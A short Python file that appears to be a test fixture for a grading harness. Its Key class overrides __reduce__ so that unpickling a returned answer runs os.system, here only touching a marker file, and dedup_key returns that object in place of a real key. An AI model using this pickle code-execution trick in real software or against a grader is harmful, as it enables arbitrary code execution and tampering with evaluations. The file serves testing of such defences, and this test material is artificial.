"""Its answers run code where they are unpacked.

Wrong: ex41_dedup_key/key_per_publish
Yardstick: key_is_always_the_same
"""

import os


class Key(str):
    def __reduce__(self):
        return os.system, ("touch halfway-attack-marker",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def dedup_key(alert):
    return Key("key")
